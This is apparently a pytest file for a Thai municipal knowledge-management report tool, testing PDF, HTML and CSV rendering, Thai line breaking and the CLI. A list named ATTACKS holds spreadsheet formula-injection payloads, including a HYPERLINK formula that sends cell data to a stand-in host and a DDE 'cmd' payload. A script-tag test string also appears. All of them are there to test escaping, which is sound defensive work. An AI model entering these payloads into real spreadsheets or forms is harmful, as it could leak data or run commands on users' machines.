"""The committee's yearly report: Thai PDF (text checked with pdfminer), HTML, CSV, CLI.

The PDF's text is read back with the project's pdfminer.six extractor (indexer.pdf, which
keeps zero-width Thai marks with their consonant) and compared, after
kmsearch.engine.thai.normalize, with the Thai strings the report was made from.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import unicodedata
from datetime import date

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st
from kmsearch.indexer.pdf import extract_pdf

from kmsearch.cli import main
from kmsearch.engine.thai import normalize
from kmsearch.km import charts, indicators, report
from kmsearch.km.fiscal import FiscalYear
from kmsearch.store import connect
from tests.test_indicators import NOW, catalogue, seed_km

RECOMMENDATIONS = (
    "ให้ทุกส่วนราชการจัดการแลกเปลี่ยนเรียนรู้อย่างน้อยไตรมาสละหนึ่งครั้ง และบันทึกองค์ความรู้"
    "ที่ได้ลงในระบบค้นหาความรู้ เพื่อให้บุคลากรที่เข้าใหม่เรียนรู้ได้ด้วยตนเอง\n\n"
    "ให้กองช่างกำหนดแผนบำรุงรักษาระบบประปาและน้ำดื่ม และให้กองคลังทบทวนคู่มือที่ไม่ได้ปรับปรุง"
    "เกินหนึ่งปี"
)


@pytest.fixture(scope="module")
def results(tmp_path_factory):
    engine = connect(f"sqlite:///{tmp_path_factory.mktemp('report') / 'km.db'}")
    seed_km(engine)
    with engine.begin() as conn:
        computed = indicators.compute(conn, FiscalYear(2569), catalogue(), now=NOW)
    engine.dispose()
    return computed


@pytest.fixture(scope="module")
def the_report(results):
    return report.Report(results, recommendations=RECOMMENDATIONS, generated_at=NOW)


@pytest.fixture(scope="module")
def pdf_text(the_report, tmp_path_factory):
    path = tmp_path_factory.mktemp("pdf") / "report.pdf"
    path.write_bytes(report.render_pdf(the_report))
    return extract_pdf(path).text


def _flat(text: str) -> str:
    """Normalised, without line breaks: a Thai line wrap is not a space."""
    return normalize(text).replace("\n", "")


# --- PDF -----------------------------------------------------------------------------------------


def test_pdf_is_a_pdf_with_sarabun_embedded(the_report):
    data = report.render_pdf(the_report)
    assert data.startswith(b"%PDF-")
    assert b"Sarabun" in data


@pytest.mark.parametrize(
    "expected",
    [
        report.REPORT_TITLE,
        "เทศบาลตำบลประจันตคาม",  # sara am: HarfBuzz splits it into two glyphs
        "ปีงบประมาณ พ.ศ. 2569",
        "เรียน นายกเทศมนตรีตำบลประจันตคาม",
        "1. สรุปผลตามตัวชี้วัด",
        "การแลกเปลี่ยนเรียนรู้ที่จัดขึ้น",
        "มากกว่าร้อยละ 70",
        "ร้อยละ 71.43",
        "ร้อยละ 57.14",
        "ไม่บรรลุเป้าหมาย",
        "ไม่น้อยกว่า 2 ครั้ง",
        "เป้าหมาย มากกว่า 70%",  # chart labels are text, drawn with the same font
        "ร้อยละบุคลากรที่เข้าถึงฐานความรู้ (สะสมรายเดือน)",
        "ร้อยละการเข้าถึงฐานความรู้ แยกตามส่วนราชการ",
        "ภาษีที่ดินและสิ่งปลูกสร้าง",
        "การจัดซื้อจัดจ้างผ่าน e-GP",
        "เพจ Facebook เทศบาล",
        "คู่มือการขออนุญาตก่อสร้างอาคาร",
        "ภาษีโรงเรือนและที่ดิน",
        "ระเบียบพัสดุ",
        "8. ข้อเสนอแนะของคณะกรรมการ",
        "ประธานคณะกรรมการติดตามและประเมินผลแผนการจัดการความรู้",
        "1 ตุลาคม 2568",
        "30 กันยายน 2569",
    ],
)
def test_pdf_thai_comes_back_intact(pdf_text, expected):
    assert normalize(expected) in normalize(pdf_text)


def test_pdf_recommendation_paragraphs_survive_line_breaking(pdf_text):
    # Wrapped over several lines; the extractor joins Thai lines without a space.
    flat = _flat(pdf_text)
    for paragraph in RECOMMENDATIONS.split("\n\n"):
        assert normalize(paragraph) in flat


def test_pdf_has_every_indicator_row(pdf_text, results):
    flat = _flat(pdf_text)
    for ind in results.indicators:
        assert ind.item in flat
        assert normalize(ind.result_text) in flat


def test_pdf_lines_never_start_with_a_thai_mark(pdf_text):
    for line in normalize(pdf_text).splitlines():
        line = line.strip()
        if line:
            assert not charts._is_thai_mark(line[0]), line
            assert line[0] not in "ะาำๆ", line  # following vowels and mai yamok


def test_pdf_names_nobody(pdf_text, results):
    assert results.access.non_users  # there are non-users, and the report does not list them
    for person in results.access.non_users:
        assert normalize(person.full_name) not in normalize(pdf_text)


def test_pdf_without_recommendations_says_so(results, tmp_path):
    path = tmp_path / "r.pdf"
    path.write_bytes(report.render_pdf(report.Report(results, generated_at=NOW)))
    assert normalize(report.NO_RECOMMENDATIONS) in normalize(extract_pdf(path).text)


def test_pdf_of_a_running_year_says_as_of(tmp_path):
    engine = connect(f"sqlite:///{tmp_path / 'km.db'}")
    seed_km(engine)
    with engine.begin() as conn:
        running = indicators.compute(conn, FiscalYear(2570), catalogue(), now=NOW)
    engine.dispose()
    path = tmp_path / "r.pdf"
    path.write_bytes(report.render_pdf(report.Report(running, generated_at=NOW)))
    assert normalize("ข้อมูล ณ วันที่ 20 พฤศจิกายน 2569") in _flat(extract_pdf(path).text)


# --- Thai line breaking ---------------------------------------------------------------------------

WORDS = ["การ", "จัดการ", "ความรู้", "ของ", "เทศบาล", "ตำบล", "ประจันตคาม", "ภาษี", "ที่ดิน",
         "และ", "สิ่งปลูกสร้าง", "น้ำ", "กำหนด", "ผู้สูงอายุ", "เบี้ยยังชีพ", " ", "2569",
         "ร้อยละ", "ครั้ง", "คู่มือ", "e-GP"]  # fmt: skip


def _measure(text: str) -> float:
    return charts.estimate_width(text, 10)


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from(WORDS), min_size=1, max_size=40), st.integers(40, 200))
def test_break_lines_keeps_text_and_breaks_only_between_clusters(words, width):
    from pythainlp.tokenize import tcc

    text = "".join(words)
    lines = charts.break_lines(text, width, _measure)
    # Nothing lost but the spaces where a line was broken.
    assert "".join(lines).replace(" ", "") == text.replace(" ", "")
    boundaries = set()
    pos = 0
    for cluster in tcc.segment(text.replace(" ", "")):
        pos += len(cluster)
        boundaries.add(pos)
    pos = 0
    for line in lines[:-1]:
        pos += len(line.replace(" ", ""))
        assert pos in boundaries  # never between a consonant and its marks
    for line in lines:
        if line and not unicodedata.combining(line[0]):
            assert not charts._is_thai_mark(line[0])


def test_break_lines_prefers_word_boundaries():
    text = "ภาษีที่ดินและสิ่งปลูกสร้าง" * 3
    lines = charts.break_lines(text, 60, _measure)
    from pythainlp.tokenize import word_tokenize

    ends, pos = set(), 0
    for tok in word_tokenize(text, engine="newmm"):
        pos += len(tok)
        ends.add(pos)
    pos = 0
    for line in lines[:-1]:
        pos += len(line)
        assert pos in ends, lines
    assert all(_measure(line) <= 60 for line in lines)


def test_break_lines_keeps_numbers_with_their_classifier_and_brackets_closed():
    lines = charts.break_lines("ผลการดำเนินงาน ร้อยละ 57.14 (4 จาก 7 คน)", 70, _measure)
    assert not any(line.endswith(("7", "(")) or line.startswith((")", "คน")) for line in lines)


# --- HTML and CSV ---------------------------------------------------------------------------------


def test_html_is_one_page_with_svg_charts(the_report):
    page = report.render_html(the_report)
    assert page.startswith("<!doctype html>") and '<html lang="th">' in page
    assert page.count("<svg") == 2 and "<script" not in page
    assert "ร้อยละ 71.43<br>(5 จาก 7 คน)" in page  # the break a reader would make
    assert "นายกเทศมนตรีตำบลประจันตคาม" in page


def test_html_escapes_recommendations(results):
    page = report.render_html(report.Report(results, recommendations="<script>alert(1)</script>"))
    assert "<script>" not in page and "&lt;script&gt;" in page


def test_csv_opens_in_excel_and_parses_back(the_report):
    text = report.render_csv(the_report)
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[0] == report.CSV_HEADER
    indicator_rows = {r[1]: r for r in rows if r[0] == "ตัวชี้วัด"}
    assert indicator_rows["9.1-4"][3:6] == ["71.43", "5", "7"]
    assert indicator_rows["9.1-2"][3] == "2"
    divisions = {r[1]: r[3] for r in rows if r[0] == "9.1-4 ส่วนราชการ"}
    assert divisions == {"กองคลัง": "100.00", "กองช่าง": "50.00", "สำนักปลัด": "50.00"}
    assert len([r for r in rows if r[0] == "9.1-4 สะสมรายเดือน"]) == 12
    assert ["คำค้นไม่พบผล (ประชาชน)", "", "ภาษีป้าย", "3"] == [
        r for r in rows if r[0].startswith("คำค้น")
    ][0][:4]


ATTACKS = [
    '=HYPERLINK("http://x.example/?"&A1,"ดู")',
    "@cmd",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1dSUM(A1)",
]


def test_csv_cells_never_start_a_formula(results):
    # Issue 12 item 14: citizens' zero-result queries were written verbatim, so a query typed
    # as =HYPERLINK(...) or @cmd became a live formula when the committee opened the CSV.
    zero = {"public": [(q, 1) for q in ATTACKS], "staff": [("ภาษีป้าย", 2)]}
    health = dataclasses.replace(results.health, zero_results=zero)
    doc = report.Report(dataclasses.replace(results, health=health),
                        recommendations="=1+1 ข้อเสนอ")  # fmt: skip
    rows = list(csv.reader(io.StringIO(report.render_csv(doc).lstrip("\ufeff"))))
    queries = [r[2] for r in rows if r[0] == "คำค้นไม่พบผล (ประชาชน)"]
    assert queries == ["'" + q for q in ATTACKS]  # shown literally, nothing lost
    for row in rows:
        for cell in row:
            assert not cell.lstrip(" ").startswith(("=", "+", "@", "\t", "\r", "\uff1d")), row
            assert not cell.startswith("-") or cell == "-" or cell.lstrip("-").isdigit(), row
    assert ["ข้อเสนอแนะ", "", "'=1+1 ข้อเสนอ"] == [r for r in rows if r[0] == "ข้อเสนอแนะ"][0][:3]
    # Ordinary cells are untouched: numbers, the "-" of nobody to count, Thai text.
    assert report.formula_safe("-") == "-" and report.formula_safe("71.43") == "71.43"
    assert report.formula_safe("ภาษีป้าย") == "ภาษีป้าย"
    # HTML escapes the same text (a browser shows it, runs nothing); PDF draws it as text.
    page = report.render_html(doc)
    assert "=HYPERLINK(&quot;http://x.example/?&quot;&amp;A1,&quot;ดู&quot;)" in page


def test_render_refuses_unknown_format(the_report):
    with pytest.raises(report.ReportError, match="pdf, html, csv"):
        report.render(the_report, "docx")


# --- recommendations file ---------------------------------------------------------------------------


def test_recommendations_in_utf8_with_bom_and_crlf(tmp_path):
    path = tmp_path / "rec.txt"
    path.write_bytes("\ufeffข้อหนึ่ง\r\n\r\nข้อสอง\r\n".encode())
    assert report.read_recommendations(path) == "ข้อหนึ่ง\n\nข้อสอง"


def test_recommendations_in_windows_thai(tmp_path):
    path = tmp_path / "rec.txt"
    path.write_bytes("ข้อเสนอแนะของคณะกรรมการ".encode("cp874"))
    assert report.read_recommendations(path) == "ข้อเสนอแนะของคณะกรรมการ"


def test_recommendations_binary_is_refused(tmp_path):
    path = tmp_path / "rec.bin"
    path.write_bytes(b"\x00\x81\xff\xfe garbage")
    with pytest.raises(report.ReportError, match="UTF-8"):
        report.read_recommendations(path)


# --- CLI ----------------------------------------------------------------------------------------------


@pytest.fixture
def seeded_home(tmp_path, monkeypatch):
    monkeypatch.delenv("KMSEARCH_DATABASE_URL", raising=False)
    home = tmp_path / "home"
    engine = connect(f"sqlite:///{home / 'kmsearch.db'}")
    seed_km(engine)
    engine.dispose()
    return str(home)


def test_cli_report_pdf_with_recommendations(seeded_home, tmp_path):
    rec = tmp_path / "rec.txt"
    rec.write_text(RECOMMENDATIONS, encoding="utf-8")
    out = tmp_path / "out.pdf"
    result = CliRunner().invoke(
        main,
        ["--home", seeded_home, "report", "--fiscal-year", "2569", "--format", "pdf",
         "--recommendations", str(rec), "--output", str(out), "--as-of", "2026-11-20"],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    text = _flat(extract_pdf(out).text)
    assert normalize(RECOMMENDATIONS.split("\n\n")[1]) in text
    assert normalize("ร้อยละ 71.43") in text


def test_cli_report_html_and_csv_to_stdout(seeded_home):
    runner = CliRunner()
    for fmt, marker in (("html", "<svg"), ("csv", "ตัวชี้วัด")):
        result = runner.invoke(
            main,
            ["--home", seeded_home, "report", "--fiscal-year", "2569", "--format", fmt, "-o", "-"],
        )
        assert result.exit_code == 0, result.output
        assert marker in result.stdout


def test_cli_report_default_file_name(seeded_home, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    result = CliRunner().invoke(
        main, ["--home", seeded_home, "report", "--fiscal-year", "2569", "--format", "csv"]
    )
    assert result.exit_code == 0, result.output
    assert (tmp_path / "km-report-2569.csv").exists()


def test_cli_report_missing_recommendations_file(seeded_home, tmp_path):
    result = CliRunner().invoke(
        main,
        ["--home", seeded_home, "report", "--fiscal-year", "2569",
         "--recommendations", str(tmp_path / "nope.txt")],
    )  # fmt: skip
    assert result.exit_code == 2 and "nope.txt" in result.output


def test_period_dates_in_report_are_buddhist_era(the_report):
    page = report.render_html(the_report)
    assert "1 ตุลาคม 2568" in page and "2025" not in page.split("<body>")[1].split("https")[0]
    assert date(2025, 10, 1) == the_report.results.period.first
